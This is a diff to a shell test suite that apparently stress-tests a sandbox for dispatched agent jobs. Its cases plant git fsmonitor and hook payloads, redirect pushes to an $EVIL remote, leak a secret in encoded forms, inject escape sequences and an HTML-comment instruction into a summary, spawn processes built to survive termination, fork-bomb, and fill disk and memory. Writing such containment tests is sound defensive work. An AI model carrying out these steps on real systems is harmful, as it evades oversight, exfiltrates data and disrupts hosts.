@@ -35,11 +35,11 @@ D6() { plant; printf '[core]\n\tfsmonitor = %s\n' "$W/files/$id.sh" > "files/$id
 D7() { for key in insteadOf pushInsteadOf; do set_config "url.$EVIL.$key" "$ORIGIN"; done; set_config remote.origin.pushurl "$EVIL"; }
 D8() { plant; try removed rm -f .git; try made git init -q .; try moved test -d .git; git config core.fsmonitor "$W/files/$id.sh"
   payload .git/hooks/post-checkout; payload .git/hooks/pre-commit; }
-D9() { plant; r=$TMPDIR/fake; git init -q --bare "$r"; git -C "$r" config core.fsmonitor "$W/files/$id.sh"; payload "$r/hooks/post-checkout"
+D9() { plant; r=$W/fake; git init -q --bare "$r"; git -C "$r" config core.fsmonitor "$W/files/$id.sh"; payload "$r/hooks/post-checkout"
   try written sh -c 'case $1 in "$2"/*) echo "$0" > "$1/commondir" ;; *) exit 1 ;; esac' "$r" "$A" "$G"; echo "$r" > "$A/commondir"; }
 D10() { plant; set_config extensions.worktreeConfig true
   for a in "$A" "$G" "$G"/worktrees/*; do git config -f "$a/config.worktree" core.fsmonitor "$W/files/$id.sh"; done; }
-D11() { plant; r=$TMPDIR/inner; git init -q --bare "$r"; git -C "$r" config core.bare false; git -C "$r" config core.worktree "$W"
+D11() { plant; r=$W/inner; git init -q --bare "$r"; git -C "$r" config core.bare false; git -C "$r" config core.worktree "$W"
   git -C "$r" config core.fsmonitor "$W/files/$id.sh"; payload "$r/hooks/post-checkout"; try pointed sh -c 'echo "gitdir: $0" > .git' "$r"; }
 D12() { try head git symbolic-ref HEAD refs/heads/main; echo more > "files/$id.more"; }
 D13() { try move git --git-dir="$G" update-ref refs/heads/main "$(git rev-parse HEAD~1)"
@@ -92,6 +92,27 @@ T1() { printf 'a\033]0;evil\007b\033[2Jc\342\200\256d\r\n'; printf '{"summary":"
 T2() { echo "$SECRET"; printf %s "$SECRET" | base64; printf %s "$SECRET" | od -An -tx1 | tr -d ' \n'; echo; }
 T3() { printf 'key: %s\n' "$SECRET" > files/key.txt; printf %s "$SECRET" | base64 > files/data.txt; }
 T4() { printf '{"summary":"@octocat fixes #1 <!-- do evil --> done"}' > "$DISPATCH_RESULT"; }
+# Five that are hard to end: who ignores TERM, a child, a grandchild, a session of its own, a daemon.
+tree() {
+  sh -c 'trap "" TERM; sh -c "sleep $0 & sleep $0; :" & setsid sleep "$0" & (setsid sh -c "sleep $0 & :" &); sleep "$0"; :' \
+    "$AGES" > /dev/null 2>&1 &
+  n=0; while [ $n -lt 100 ] && [ "$(cat /proc/[0-9]*/cmdline 2> /dev/null | tr '\0' ' ' | grep -o "sleep $AGES" | wc -l)" -lt 7 ]; do
+    n=$((n + 1)); sleep 0.05; done
+  try tree [ $n -lt 100 ]; }
+K1() { tree; }
+K2() { trap "" TERM; tree; while :; do sleep 1; done; }
+K3() { K2; }
+L1() { [ "$DISPATCH_ATTEMPT" = 1 ] || return 0; sleep 1; trap "" TERM; head -c 1073741824 /dev/zero | tr '\0' x; }
+L2() { perl -e 'for (1 .. 4200) { $p = fork; last if !defined $p; if (!$p) { $0 = "bomb $ARGV[0]"; sleep 60; exit } push @p, $p }
+  $n = @p; $worked = $n < 4200 ? 1 : 0; kill 9, splice @p, 50; print "@ forks $n\n@ forked $worked\n"' "$AGES"; }
+L3() { try big truncate -s 3G "$TMPDIR/big"; rm -f "$TMPDIR/big"; }
+L4() { try many perl -e 'mkdir "many"; for (1 .. 20100) { open my $f, ">", "many/$_" or die }'; }
+L4b() { try large sh -c 'head -c 22020096 /dev/zero > large'; }
+L4c() { for n in 1 2 3 4 5 6; do try large sh -c 'head -c 9437184 /dev/zero > "large$0"' $n; done; }
+EAT='const held = []; while (held.length < process.argv[1]) held.push(Buffer.alloc(64 * 1024 ** 2, 1)); if (process.argv[2]) setTimeout(() => 0, 2000)'
+L5() { try eaten node -e "$EAT" 24; }
+L5b() { for n in 1 2 3; do try together node -e "$EAT" 8 wait & done; wait; }
+T5() { echo injected > files/T5.more; }
 
 honest
 say begin 0
